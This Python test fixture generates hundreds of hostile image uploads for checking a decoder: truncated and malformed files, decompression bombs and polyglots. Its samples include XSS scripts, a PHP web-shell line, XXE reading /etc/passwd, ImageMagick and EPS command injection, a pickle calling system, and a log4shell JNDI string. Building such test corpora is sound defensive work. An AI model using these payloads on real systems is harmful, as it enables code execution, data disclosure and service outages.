"""Some nine hundred uploads that nobody honest sends, made from a seed: the same bytes every time.

Each is small enough for the limits on a photo's bytes, so that it reaches what decodes.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from itertools import pairwise

import numpy as np
from PIL import Image

from tests.images.test_decode import FORMATS, encode, lying, orientation_tag, scene

Files = Iterator[tuple[str, bytes]]

SIDE = 7000  # px: 49 million pixels, just within what a photo may have
ENDINGS = {"JPEG": "jpg", "PNG": "png", "WEBP": "webp", "GIF": "gif", "BMP": "bmp", "TIFF": "tif"}
PNG = b"\x89PNG\r\n\x1a\n"
SCRIPT = b"<script>alert(1)</script>"


def hostile() -> Files:
    """Yields (file name, bytes)."""
    yield from truncated()
    yield from lies()
    yield from broken_structure()
    yield from bombs()
    yield from polyglots()
    yield from foreign()
    yield from wrong_extensions()
    yield from metadata()
    yield from shapes()
    yield from mutated()


def small(kind: str) -> bytes:
    """A good file of 12 x 9 pixels of noise."""
    return encode(np.random.default_rng(7).integers(0, 256, (9, 12, 3), np.uint8), kind)


def chunk(name: bytes, body: bytes) -> bytes:
    """A PNG chunk."""
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(width: int, height: int, data: bytes, *, kind: int = 2, depth: int = 8, before: bytes = b"") -> bytes:
    """A PNG of any size whose rows are `data`, compressed already; `before` are chunks in front of them."""
    header = struct.pack(">IIBBBBB", width, height, depth, kind, 0, 0, 0)
    return PNG + chunk(b"IHDR", header) + before + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def zeros(count: int) -> bytes:
    """So many zeros, as zlib compresses them: a megabyte at a time, each of which becomes the same bytes."""
    megabyte, last = zlib.compressobj(wbits=-zlib.MAX_WBITS), zlib.compressobj(wbits=-zlib.MAX_WBITS)
    each = megabyte.compress(bytes(2**20)) + megabyte.flush(zlib.Z_FULL_FLUSH)
    rest = last.compress(bytes(count % 2**20)) + last.flush()
    adler32 = count % 65521 << 16 | 1
    return b"\x78\x9c" + count // 2**20 * each + rest + struct.pack(">I", adler32)


def tiff(tags: dict[int, tuple[int, ...]], data: bytes = b"", following: int = 0) -> bytes:
    """A TIFF with `data` at byte 8, one directory of whole numbers behind it, and where the next one shall be."""
    data += b"\0" * (len(data) % 2)
    tail, entries = b"", b""
    after = 8 + len(data) + 2 + 12 * len(tags) + 4
    for tag, values in sorted(tags.items()):
        packed = struct.pack(f"<{len(values)}I", *values)
        field = packed if len(values) == 1 else struct.pack("<I", after + len(tail))
        tail += b"" if len(values) == 1 else packed
        entries += struct.pack("<HHI", tag, 4, len(values)) + field
    start = struct.pack("<I", 8 + len(data))
    return b"II*\0" + start + data + struct.pack("<H", len(tags)) + entries + struct.pack("<I", following) + tail


def grey_tiff(width: int, height: int, data: bytes, **tags: int) -> dict[int, tuple[int, ...]]:
    """Tags of a grey TIFF in one strip."""
    named = {"compression": 259, "bits": 258, "samples": 277, "rows": 278, "count": 279, "offset": 273}
    plain = {256: width, 257: height, 258: 8, 259: 1, 262: 1, 273: 8, 277: 1, 278: height, 279: len(data)}
    return {tag: (value,) for tag, value in (plain | {named[name]: value for name, value in tags.items()}).items()}


def jpeg_segment(marker: int, body: bytes) -> bytes:
    """A JPEG marker with its length and body."""
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body


def with_segment(marker: int, body: bytes) -> bytes:
    """A good JPEG with one more segment in front."""
    data = small("JPEG")
    return data[:2] + jpeg_segment(marker, body) + data[2:]


def changed(data: bytes, at: int, new: bytes) -> bytes:
    """`data` with `new` written over what is at `at`."""
    return data[:at] + new + data[at + len(new) :]


def truncated() -> Files:
    """Every format, cut at every tenth byte."""
    for kind in FORMATS:
        data = small(kind)
        for length in range(0, len(data), 10):
            yield f"truncated_{kind}_{length}.{ENDINGS[kind]}", data[:length]


def lies() -> Files:
    """Headers that promise another size than the data has."""
    sizes = ((0, 40), (60, 0), (0, 0), (1, 1), (59, 40), (61, 400), (2000, 2000), (16000, 65000), (65535, 65535))
    for kind in FORMATS:
        for width, height in sizes:
            yield f"lie_{kind}_{width}x{height}.{ENDINGS[kind]}", lying(kind, width, height)
    yield "lie_PNG_2147483647.png", lying("PNG", 2**31 - 1, 2**31 - 1)
    yield "lie_PNG_4294967295.png", lying("PNG", 2**32 - 1, 2**32 - 1)


def broken_structure() -> Files:
    """Lengths, checksums, tables and references that are wrong."""
    good = small("PNG")
    for name, at in (("IHDR", 8), ("IDAT", good.index(b"IDAT") - 4)):
        for length in (0, 1, 2**31, 2**32 - 1):
            yield f"png_{name}_length_{length}.png", changed(good, at, struct.pack(">I", length))
        size = struct.unpack_from(">I", good, at)[0]
        yield f"png_{name}_checksum.png", changed(good, at + 8 + size, b"\0\0\0\0")
    for at, field, values in ((24, "depth", (0, 3, 16, 255)), (25, "kind", (1, 3, 5, 255)), (28, "interlace", (1, 7))):
        for value in values:
            header = changed(good[12:29], at - 12, bytes([value]))
            yield f"png_{field}_{value}.png", good[:12] + header + struct.pack(">I", zlib.crc32(header)) + good[33:]
    yield "png_without_data.png", PNG + good[8:33] + chunk(b"IEND", b"")
    yield "png_two_headers.png", good[:33] + good[8:]
    yield "png_unknown_critical.png", good[:33] + chunk(b"ABCD", b"x") + good[33:]
    yield "png_names_of_zeros.png", good[:33] + chunk(b"\0\0\0\0", b"x") + good[33:]

    good = small("JPEG")
    for marker, name in ((0xDB, "tables"), (0xC4, "codes"), (0xC0, "frame"), (0xDA, "scan")):
        at = good.index(bytes([0xFF, marker]))
        length = struct.unpack_from(">H", good, at + 2)[0]
        for value in (0, 1, 2, 65535):
            yield f"jpeg_{name}_length_{value}.jpg", changed(good, at + 2, struct.pack(">H", value))
        yield f"jpeg_without_{name}.jpg", good[:at] + good[at + 2 + length :]
    at = good.index(b"\xff\xc0")
    for offset, name in ((4, "precision"), (9, "components"), (11, "sampling"), (12, "table")):
        for value in (0, 15, 255):
            yield f"jpeg_{name}_{value}.jpg", changed(good, at + offset, bytes([value]))
    for marker in (0xC1, 0xC3, 0xC5, 0xC9, 0xCB):
        yield f"jpeg_frame_{marker:x}.jpg", changed(good, at + 1, bytes([marker]))
    yield "jpeg_restarts.jpg", with_segment(0xDD, b"\0\1")
    yield "jpeg_no_end.jpg", good[:-2]
    yield "jpeg_padding.jpg", good[:2] + b"\xff" * 500_000 + good[2:]

    good = small("GIF")
    codes = good.index(b",", 13 + 3 * 2 ** (good[10] % 8 + 1)) + 10  # behind the palette
    for value in (0, 1, 12, 13, 255):
        yield f"gif_code_size_{value}.gif", changed(good, codes, bytes([value]))
    yield "gif_without_end.gif", good[:-1]
    yield "gif_without_a_frame.gif", good[:13] + b";"
    yield "gif_frame_outside.gif", changed(good, codes - 9, struct.pack("<HH", 60000, 60000))

    good = small("WEBP")
    for value in (0, 1, 2**32 - 1):
        yield f"webp_length_{value}.webp", changed(good, 4, struct.pack("<I", value))
        yield f"webp_chunk_{value}.webp", changed(good, 16, struct.pack("<I", value))

    good = small("BMP")
    for at, name in ((10, "offset"), (14, "header"), (30, "compression"), (34, "bytes"), (46, "colours")):
        for value in (0, 1, 4, 2**31, 2**32 - 1):
            yield f"bmp_{name}_{value}.bmp", changed(good, at, struct.pack("<I", value))
    for bits in (0, 1, 7, 64, 65535):
        yield f"bmp_bits_{bits}.bmp", changed(good, 28, struct.pack("<H", bits))
    yield "bmp_height_negative.bmp", changed(good, 22, struct.pack("<i", -(2**31)))

    data = bytes(100)
    for tag in ("compression", "bits", "samples", "rows", "count", "offset"):
        for value in (0, 5, 99, 65535, 2**32 - 1):
            yield f"tiff_{tag}_{value}.tif", tiff(grey_tiff(10, 10, data, **{tag: value}), data)
    yield "tiff_loop.tif", tiff(grey_tiff(10, 10, data), data, following=8 + len(data))
    yield "tiff_directory_outside.tif", b"II*\0\xff\xff\xff\xff"
    yield "tiff_directory_of_itself.tif", b"II*\0\0\0\0\0"
    yield "tiff_65535_entries.tif", b"II*\0\x08\0\0\0\xff\xff" + bytes(1000)
    yield "tiff_big.tif", b"II+\0\x08\0\0\0" + struct.pack("<QQ", 16, 2**63) + bytes(100)


def bombs() -> Files:
    """Little data that wants much memory or time."""
    few = zeros(2**24)
    yield "bomb_png_header.png", png(2**16, 2**16, few)
    yield "bomb_png_within.png", png(SIDE, SIDE, zeros(SIDE * (3 * SIDE + 1)))
    yield "bomb_png_alpha.png", png(SIDE, SIDE, zeros(SIDE * (4 * SIDE + 1)), kind=6)
    yield "bomb_png_16_bit.png", png(SIDE, SIDE, zeros(SIDE * (2 * SIDE + 1)), kind=0, depth=16)
    yield "bomb_png_short.png", png(SIDE, SIDE, zlib.compress(b"\0"))
    yield "bomb_png_surplus.png", png(8, 8, zeros(2**28))
    text = chunk(b"zTXt", b"Comment\0\0" + zeros(2**26))
    yield "bomb_png_text.png", png(8, 8, few, before=text)
    yield "bomb_png_many_texts.png", png(8, 8, few, before=16 * chunk(b"zTXt", b"a\0\0" + few))
    yield "bomb_png_utf8.png", png(8, 8, few, before=chunk(b"iTXt", b"a\0\1\0\0\0" + zeros(2**26)))
    yield "bomb_png_profile.png", png(8, 8, few, before=chunk(b"iCCP", b"p\0\0" + zeros(2**28)))
    frames = chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0)) + 5000 * chunk(b"fcTL", bytes(26))
    yield "bomb_png_frames.png", png(8, 8, few, before=frames)
    yield "bomb_png_chunks.png", png(8, 8, few, before=50_000 * chunk(b"tEXt", b"a\0b"))

    frame = b",\0\0\0\0" + struct.pack("<HH", SIDE, SIDE) + b"\0\2\2\x4c\1\0"
    screen = b"GIF89a" + struct.pack("<HH", SIDE, SIDE) + b"\x80\0\0" + bytes(6)
    yield "bomb_gif_short.gif", screen + frame + b";"
    yield "bomb_gif_within.gif", encode(Image.new("P", (SIDE, SIDE)), "GIF")
    yield "bomb_gif_frames.gif", screen + 5000 * frame + b";"
    yield "bomb_gif_comments.gif", screen + b"!\xfe" + 40_000 * (b"\xff" + bytes(255)) + b"\0;"
    yield "bomb_gif_screen.gif", changed(screen, 6, b"\xff\xff\xff\xff") + frame + b";"

    deflated = zeros(SIDE * SIDE)
    yield "bomb_tiff_within.tif", tiff(grey_tiff(SIDE, SIDE, deflated, compression=8), deflated)
    short = zeros(256)
    yield "bomb_tiff_short.tif", tiff(grey_tiff(SIDE, SIDE, short, compression=8), short)
    yield "bomb_tiff_header.tif", tiff(grey_tiff(2**31, 2**31, short, compression=8), short)
    count = (SIDE + 15) // 16
    tiles = {322: (16,), 323: (16,), 324: count**2 * (8,), 325: count**2 * (len(short),)}
    tags = {tag: value for tag, value in grey_tiff(SIDE, SIDE, short, compression=8).items() if tag not in (273, 279)}
    yield "bomb_tiff_tiles.tif", tiff({**tags, **tiles}, short)
    yield "bomb_tiff_tile_size.tif", tiff({**tags, **tiles, 322: (2**31,), 323: (2**31,)}, short)
    strips = {273: 60_000 * (8,), 278: (1,), 279: 60_000 * (len(short),)}
    yield "bomb_tiff_strips.tif", tiff({**grey_tiff(256, 60_000, short, compression=8), **strips}, short)
    counted = tiff(grey_tiff(10, 10, bytes(100)), bytes(100))
    at = counted.index(struct.pack("<HHI", 273, 4, 1)) + 4
    yield "bomb_tiff_strip_count.tif", changed(counted, at, struct.pack("<I", 2**32 - 1))
    folder = struct.pack("<H", 1) + struct.pack("<HHII", 256, 4, 1, 1)
    chain = b"".join(folder + struct.pack("<I", 8 + 18 * (number + 1)) for number in range(20_000))
    yield "bomb_tiff_pages.tif", b"II*\0\x08\0\0\0" + chain

    yield "bomb_webp_within.webp", encode(Image.new("RGB", (SIDE, SIDE)), "WEBP", lossless=True, method=0)
    yield "bomb_webp_header.webp", lying("WEBP", 16384, 16384)
    canvas = b"VP8X" + struct.pack("<I", 10) + b"\2\0\0\0" + b"\xff" * 6
    yield "bomb_webp_canvas.webp", b"RIFF" + struct.pack("<I", len(canvas) + 4) + b"WEBP" + canvas
    images = [Image.new("RGB", (16, 16), (number % 256, number // 256, 0)) for number in range(1000)]
    yield "bomb_webp_frames.webp", encode(images[0], "WEBP", save_all=True, append_images=images[1:], method=0)

    yield "bomb_jpeg_within.jpg", encode(Image.new("RGB", (SIDE, SIDE)), "JPEG")
    waves = encode(Image.new("L", (4000, 4000), 90), "JPEG", progressive=True)
    scan = waves[waves.rindex(b"\xff\xda") : -2]
    yield "bomb_jpeg_scans.jpg", waves[:-2] + 100_000 * scan + b"\xff\xd9"
    yield "bomb_jpeg_scans_within.jpg", waves[:-2] + 290 * scan + b"\xff\xd9"
    yield "bomb_jpeg_segments.jpg", small("JPEG")[:2] + 100_000 * jpeg_segment(0xE5, b"x") + small("JPEG")[2:]
    yield "bomb_jpeg_comments.jpg", small("JPEG")[:2] + 200 * jpeg_segment(0xFE, bytes(65_000)) + small("JPEG")[2:]
    yield "bomb_jpeg_profiles.jpg", small("JPEG")[:2] + 200 * profile_part(1, 255, bytes(60_000)) + small("JPEG")[2:]

    header = changed(small("BMP")[:54], 18, struct.pack("<ii", SIDE, SIDE))
    yield "bomb_bmp_short.bmp", header
    palette = struct.pack("<I", 0) * 256
    packed = changed(changed(header, 28, struct.pack("<H", 8)), 30, struct.pack("<I", 1))
    runs = b"\xff\0" * (SIDE * SIDE // 255)
    yield "bomb_bmp_runs.bmp", changed(packed, 10, struct.pack("<I", 54 + len(palette))) + palette + runs + b"\0\1"
    yield "bomb_bmp_jumps.bmp", changed(packed, 10, struct.pack("<I", 54)) + 50_000 * b"\0\2\xff\xff"


def polyglots() -> Files:
    """Files of two kinds at once."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr(zipfile.ZipInfo("payload.html"), SCRIPT)
    for kind in FORMATS:
        yield f"polyglot_{kind}_zip.{ENDINGS[kind]}", small(kind) + archive.getvalue()
        yield f"polyglot_zip_{kind}.{ENDINGS[kind]}", archive.getvalue() + small(kind)
        yield f"polyglot_{kind}_html.html", small(kind) + b"<html><body>" + SCRIPT
        yield f"polyglot_pdf_{kind}.pdf", b"%PDF-1.7\n1 0 obj<</Length 999>>stream\n" + small(kind) + b"\n%%EOF"
    yield "polyglot_gif_js.js", changed(small("GIF"), 6, b"/*") + b"*/=1;alert(1);"
    yield "polyglot_jpeg_js.js", with_segment(0xFE, b"*/=alert(1);/*")
    yield "polyglot_jpeg_pdf.jpg", with_segment(0xFE, b"%PDF-1.7\n1 0 obj<<>>endobj trailer<<>>")
    yield "polyglot_jpeg_php.php", with_segment(0xFE, b"<?php system($_GET['c']); __HALT_COMPILER(); ?>")
    yield "polyglot_png_html.png", PNG + small("PNG")[8:33] + chunk(b"tEXt", b"a\0" + SCRIPT) + small("PNG")[33:]
    yield "polyglot_bmp_js.js", changed(small("BMP"), 2, b"/*\0\0") + b"*/=alert(1)"
    yield "polyglot_jpeg_in_jpeg.jpg", with_segment(0xE1, b"Exif\0\0" + small("JPEG"))
    yield "polyglot_jpeg_jpeg.jpg", small("JPEG") * 50


def foreign() -> Files:
    """What is no photo at all."""
    entity = "".join(f'<!ENTITY a{i} "{"&a" + str(i - 1) + ";" if i else "ha"}' + "&a0;" * 10 + '">' for i in range(9))
    texts = {
        "picture.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "entity.svg": b'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg><text>&x;</text></svg>',
        "laughs.svg": b"<!DOCTYPE s [" + entity.encode() + b"]><svg><text>&a8;</text></svg>",
        "page.html": b"<!doctype html><html>" + SCRIPT,
        "paper.pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>",
        "drawing.eps": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(%pipe%id) (w) file",
        "magick.mvg": b"push graphic-context\nfill 'url(https://127.0.0.1/\"|id\")'\npop graphic-context",
        "archive.zip": b"PK\3\4" + bytes(200),
        "archive.gz": b"\x1f\x8b\x08" + bytes(200),
        "program": b"\x7fELF\2\1\1" + bytes(200),
        "program.exe": b"MZ" + bytes(200),
        "film.mp4": b"\0\0\0\x18ftypisom" + bytes(200),
        "photo.heic": b"\0\0\0\x18ftypheic" + bytes(200),
        "photo.avif": b"\0\0\0\x18ftypavif" + bytes(200),
        "icon.ico": b"\0\0\1\0\1\0" + bytes(200),
        "picture.jp2": b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(200),
        "picture.psd": b"8BPS\0\1" + bytes(200),
        "sound.webp": b"RIFF\xff\0\0\0WAVEfmt " + bytes(200),
        "pickle.jpg": b"\x80\4\x95\x1e\0\0\0\0\0\0\0\x8c\5posix\x94\x8c\6system\x94\x93\x94.",
        "array.npy": b"\x93NUMPY\1\0v\0{'descr': '|O', 'fortran_order': False, 'shape': (1,)}",
        "request.jpg": b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n",
        "form.jpg": b"\r\n--boundary--\r\n",
        "urls.json": b'{"urls": ["file:///etc/passwd"]}',
        "deep.json": b"[" * 100_000,
        "blank.jpg": b" \r\n\t",
        "empty.jpg": b"",
    }
    yield from texts.items()
    rng = np.random.default_rng(0)
    for number, length in enumerate((1, 2, 3, 10, 100, 1000, 10_000, 1_000_000)):
        yield f"random_{number}.jpg", rng.bytes(length)
        yield f"zeros_{number}.jpg", bytes(length)
        yield f"ones_{number}.jpg", b"\xff" * length
    starts = (b"\xff\xd8\xff", PNG, b"RIFF\0\0\0\0WEBP", b"GIF87a", b"GIF89a", b"BM", b"II*\0", b"MM\0*", b"MM\0+")
    for number, start in enumerate(starts):
        yield f"signature_{number}.jpg", start
        yield f"signature_{number}_zeros.jpg", start + bytes(1000)
        yield f"signature_{number}_random.jpg", start + rng.bytes(1000)


def wrong_extensions() -> Files:
    """Good files with other formats' names, and none."""
    kinds = (*FORMATS, FORMATS[0])
    for kind, other in pairwise(kinds):
        yield f"{kind.lower()}_named_like_{other}.{ENDINGS[other]}", small(kind)
        yield f"{kind.lower()}_without_extension", small(kind)
    yield "html_named.jpg", b"<!doctype html>" + SCRIPT
    yield "jpeg_named.exe", small("JPEG")
    yield "JPEG_NAMED.JPG.PHP", small("JPEG")


def profile_part(number: int, count: int, body: bytes) -> bytes:
    """A part of a colour profile in a JPEG."""
    return jpeg_segment(0xE2, b"ICC_PROFILE\0" + bytes([number, count]) + body)


def metadata() -> Files:
    """Good pixels with bad company."""
    rng = np.random.default_rng(1)
    for value in (0, 9, 255, 65535):
        for kind in ("JPEG", "PNG", "WEBP", "TIFF"):
            yield f"orientation_{value}_{kind}.{ENDINGS[kind]}", encode(scene(), kind, exif=orientation_tag(value))
    directory = b"II*\0\x08\0\0\0"
    exif = {
        "empty": b"",
        "short": b"II",
        "random": rng.bytes(500),
        "zeros": bytes(500),
        "outside": b"II*\0\xff\xff\xff\xff",
        "loop": directory + struct.pack("<H", 1) + struct.pack("<HHII", 0x8769, 4, 1, 8) + struct.pack("<I", 8),
        "counts": directory + struct.pack("<H", 65535) + bytes(60_000),
        "huge_value": directory + struct.pack("<H", 1) + struct.pack("<HHII", 0x0112, 2, 2**32 - 1, 2**31),
        "thumbnail": directory + struct.pack("<H", 2) + struct.pack("<HHIIHHII", 513, 4, 1, 20, 514, 4, 1, 2**31),
    }
    for name, body in exif.items():
        yield f"exif_{name}.jpg", with_segment(0xE1, b"Exif\0\0" + body)
        yield f"exif_{name}.png", small("PNG")[:33] + chunk(b"eXIf", body) + small("PNG")[33:]
    for name, body in (("empty", b""), ("random", rng.bytes(1000)), ("header", bytes(36) + b"acsp" + bytes(88))):
        for kind in ("JPEG", "PNG", "WEBP", "TIFF"):
            yield f"profile_{name}_{kind}.{ENDINGS[kind]}", encode(scene(), kind, icc_profile=body)
    yield "profile_part_9_of_3.jpg", small("JPEG")[:2] + profile_part(9, 3, b"x") + small("JPEG")[2:]
    yield "profile_part_0_of_0.jpg", small("JPEG")[:2] + profile_part(0, 0, b"x") + small("JPEG")[2:]
    yield "profile_not_compressed.png", small("PNG")[:33] + chunk(b"iCCP", b"p\0\0junk") + small("PNG")[33:]
    for marker in range(0xE0, 0xF0):
        yield f"segment_{marker:x}.jpg", with_segment(marker, rng.bytes(300))
    for marker, words in ((0xED, b"Photoshop 3.0\0"), (0xEE, b"Adobe\0"), (0xE2, b"MPF\0"), (0xE0, b"JFIF\0")):
        yield f"segment_{marker:x}_named.jpg", with_segment(marker, words + rng.bytes(100))
    yield "comment_escapes.jpg", with_segment(0xFE, b'\x1b[2J\r\n{"level": "fake log line"}\n\0${jndi:ldap://x}')
    for name in (b"tRNS", b"gAMA", b"pHYs", b"cHRM", b"sRGB", b"sBIT", b"bKGD", b"tIME", b"hIST", b"acTL"):
        for length in (0, 1, 500):
            extra = chunk(name, rng.bytes(length))
            yield f"png_{name.decode()}_{length}.png", small("PNG")[:33] + extra + small("PNG")[33:]


def shapes() -> Files:
    """Sizes and pixel types that are allowed, and rare."""
    for kind in FORMATS:
        yield f"one_pixel.{ENDINGS[kind]}", encode(Image.new("RGB", (1, 1)), kind)
        longest = {"JPEG": 65_500, "WEBP": 16_383}.get(kind, 65_535)
        yield f"tall_{kind}.{ENDINGS[kind]}", encode(Image.new("L", (1, longest)).convert("RGB"), kind)
        yield f"wide_{kind}.{ENDINGS[kind]}", encode(Image.new("L", (longest, 1)).convert("RGB"), kind)
    ramp = np.linspace(0, 65535, 4096).reshape(64, 64)
    for kind in ("PNG", "TIFF"):
        yield f"sixteen_bits.{ENDINGS[kind]}", encode(ramp.astype(np.uint16), kind)
    yield "thirty_two_bits.tif", encode((ramp * 32767).astype(np.int32), "TIFF")
    for name, values in (("nan", 0 * ramp + np.nan), ("infinite", 0 * ramp - np.inf), ("huge", 1e30 * ramp)):
        yield f"floats_{name}.tif", encode(values.astype(np.float32), "TIFF")
    for mode in ("1", "L", "LA", "P", "RGBA", "CMYK", "YCbCr", "LAB"):
        yield f"mode_{mode}.tif", encode(Image.new(mode, (30, 20)), "TIFF")
    yield "mode_CMYK.jpg", encode(Image.new("CMYK", (30, 20)), "JPEG")


def mutated() -> Files:
    """Good files with a few bytes changed, and a few lost."""
    rng = np.random.default_rng(2)
    for kind in FORMATS:
        data = encode(scene(), kind)
        for number in range(12):
            bad = bytearray(data)
            for at in rng.integers(0, len(bad), 1 + number):
                bad[at] ^= int(rng.integers(1, 256))
            yield f"mutated_{kind}_{number}.{ENDINGS[kind]}", bytes(bad)
        for number, (at, length) in enumerate(zip(rng.integers(10, len(data), 4), (1, 3, 30, 100), strict=True)):
            yield f"lost_{kind}_{number}.{ENDINGS[kind]}", data[:at] + data[at + length :]
